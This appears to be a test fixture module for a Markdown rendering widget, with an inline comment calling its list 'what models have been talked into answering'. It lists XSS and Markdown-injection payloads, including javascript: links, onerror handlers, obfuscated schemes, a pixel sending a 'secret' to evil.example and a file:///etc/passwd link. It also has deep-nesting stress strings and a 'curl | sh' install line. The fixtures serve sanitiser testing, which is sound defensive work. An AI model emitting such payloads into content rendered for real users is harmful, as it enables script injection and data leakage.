// Markdown that means harm, or is merely hard: what models have been talked into answering.
export const HOSTILE = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><circle r=1 /></svg>',
  '<svg><script>window.hit = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<iframe src="javascript:parent.hit = 1"></iframe>',
  '<object data="javascript:hit = 1"></object>',
  '<embed src="javascript:hit = 1">',
  '<form action="javascript:hit = 1"><button>x</button></form>',
  '<a href="javascript:window.hit = 1">x</a>',
  '<body onload="window.hit = 1">',
  '<details open ontoggle="window.hit = 1">x</details>',
  '<input autofocus onfocus="window.hit = 1">',
  '<video><source onerror="window.hit = 1"></video>',
  '<math><mi xlink:href="javascript:hit = 1">x</mi></math>',
  '<style>@import "https://evil.example/x.css"; * { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<template><img src=x onerror=hit=1></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
  '<!--><img src=x onerror=hit=1>-->',
  '<![CDATA[<img src=x onerror=hit=1>]]>',
  '[x](javascript:window.hit=1)',
  '[x](JaVaScRiPt:window.hit=1)',
  '[x](java\tscript:window.hit=1)',
  '[x](<java\nscript:window.hit=1>)',
  '[x](\u0001javascript:window.hit=1)',
  '[x]( javascript:window.hit=1 )',
  '[x](javascript&colon;window.hit=1)',
  '[x](&#106;avascript:window.hit=1)',
  '[x](\\javascript:window.hit=1)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>opener.hit=1</script>)',
  '[x](blob:https://example.org/1)',
  '[x](file:///etc/passwd)',
  '[x](view-source:https://example.org/)',
  '[x](intent://scan/#Intent;scheme=zxing;end)',
  '[x](//evil.example/x)',
  '[x](https://example.org/"onmouseover="window.hit=1)',
  '[x](https://example.org/ "t" onmouseover="window.hit=1")',
  '[x](https://example.org/ \'"><img src=x onerror=hit=1>\')',
  '[a](https://a.example/)[![x](javascript:hit=1)](javascript:hit=1)',
  '![x](https://evil.example/pixel.png?q=secret)',
  '![x](javascript:window.hit=1)',
  '![x](x" onerror="window.hit=1)',
  '[![x](https://evil.example/p.png)](https://example.org/)',
  '[x][1]\n\n[1]: javascript:window.hit=1',
  '<javascript:window.hit=1>',
  '<https://example.org/"onmouseover="hit=1>',
  'https://example.org/"onmouseover="hit=1',
  'javascript:window.hit=1',
  '`<img src=x onerror=hit=1>`',
  '```"><img src=x onerror=hit=1>\n<img src=x onerror=hit=1>\n```',
  '```html onmouseover=hit=1\n</code></pre><script>hit=1</script>\n```',
  '| <img src=x onerror=hit=1> | [x](javascript:hit=1) |\n| --- | --- |\n| <script>hit=1</script> | ![x](https://evil.example/p) |',
  '# <img src=x onerror=hit=1> [x](javascript:hit=1)',
  '- [ ] <img src=x onerror=hit=1>\n  1. [x](javascript:hit=1)',
  '> <img src=x onerror=hit=1>\n> > [x](data:text/html,1)',
  '&lt;img src=x onerror=hit=1&gt; &#60;script&#62;hit=1&#60;/script&#62; &#0; &#x110000; &#xD800;',
  '[1](javascript:hit=1) [99] [1, 99] [1][javascript:hit=1]',
  '${hit=1} {{constructor.constructor("hit=1")()}} <% hit=1 %>',
  `${'['.repeat(3000)}x${']'.repeat(3000)}`,
  `${'>'.repeat(5000)} deep`,
  `${'- '.repeat(2000)}deep`,
  `${'*a **b '.repeat(1500)}`,
  `${'`'.repeat(3000)} ${'``'.repeat(1000)}x`,
  `[x](${'('.repeat(3000)}`,
  `${'![['.repeat(1500)}](javascript:hit=1)`,
  '\ud800 \udfff \u202e \u0000 \ufeff',
];

/** Markdown as models write it, with most of what the widget renders. */
export const ORDINARY = `# Install

Run the **standalone** installer [1], *or* ask ~~nobody~~ \`brew\` \`\`a \` b\`\`: see <https://example.org/a_b_c>,
https://example.org/x_(y). snake_case stays; 2 * 3 * 4 too.  
New line \\*literal\\* &amp; [a [nested] link](https://example.org/?a=1&b=(2) "title") [7] [1, 2].

Setext
------

1. Open a shell:

   \`\`\`sh
   $ curl https://example.org | sh

   echo '[1]'
   \`\`\`
2. Then
  - two spaces
    - deeper **bold
      and wrapped**
  - more

3) other list
* star
+ plus

| Option | Meaning |
| :--- | ---: |
| \`--a\\|b\` | either [2] |
| short |
text after a table is a row

> quoted *text*
lazy line
>
> - list in it

***
    indented code

Lines that begin like a block and go on as text:
***bold*** and
#hashtag and
\`\`\`inline\`\`\` and
+1 for that and
- - -dashes
and 3 | 4
--- | x

#

### Third
###### Sixth ######
~~~
unclosed [1] **fence**
`;

/** What random streams are made of: every sign of Markdown, in the company of what is near it. */
export const PIECES = [
  ...HOSTILE.filter((text) => text.length < 300), ...ORDINARY.split(/(?<=\n\n)/),
  ...'*_~`[]()!<>#|-+&\\:"\'\n \t1'.split(''), '**', '__', '~~', '```', '~~~', '\n\n', '\n    ', '\n- ', '\n1. ', '\n  * ', '\n> ', '\n# ', '\n---\n',
  '| a | b |\n', '| - | :-: |\n', '[1]', '[2, 1]', '[99]', '](https://example.org/)', '](javascript:hit=1)', '<https://', 'https://example.org/a_b',
  'mailto:', 'word', 'two words', 'Ünï', '世界', '🙂', '\ud83d', '\u200f', '\ue000', '\ue001', '&lt;', '&amp;', '<br>', '\r\n',
];
